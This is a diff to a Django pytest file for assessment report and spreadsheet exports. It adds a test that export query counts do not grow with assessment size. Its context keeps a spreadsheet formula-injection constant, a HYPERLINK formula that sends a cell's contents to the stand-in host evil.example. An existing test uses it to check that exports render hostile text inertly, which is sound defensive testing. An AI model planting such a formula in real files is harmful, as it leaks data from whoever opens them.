@@ -6,10 +6,15 @@ import io
 import zipfile
 
 import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from openpyxl import load_workbook
 
 from assessments import services
 from assessments.models import Action, Evidence
+from frameworks.models import Criterion
+from tests.conftest import make_assessment
+from tests.reports.conftest import fill
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'
@@ -199,3 +204,20 @@ def test_hostile_text_in_every_field_is_kept_as_inert_text(client_for, committee
         sheets = "".join(package.read(name).decode() for name in names if "worksheets/" in name)
     assert "<f>" not in sheets and "<hyperlink" not in sheets
     assert not any("externalLink" in name for name in names)
+
+
+def test_the_exports_run_as_many_queries_for_a_big_assessment_as_for_a_small_one(
+    client_for, committee, demo_org, bv2020, officer
+):
+    small = fill(make_assessment(demo_org, bv2020, ["1.1"], officer), evidence=1, actions=1)
+    refs = list(Criterion.objects.filter(framework=bv2020).values_list("ref", flat=True)[:20])
+    big = fill(make_assessment(demo_org, bv2020, refs, officer, title="Big"), evidence=3, actions=3)
+    Action.objects.filter(assessment__in=[small, big]).update(owner=officer)
+    client = client_for(committee)
+    for path in ("report.docx", "export.xlsx"):
+        counts = []
+        for assessment in (small, big):
+            with CaptureQueriesContext(connection) as queries:
+                assert client.get(f"/assessments/{assessment.pk}/{path}").status_code == 200
+            counts.append(len(queries))
+        assert counts[0] == counts[1], path
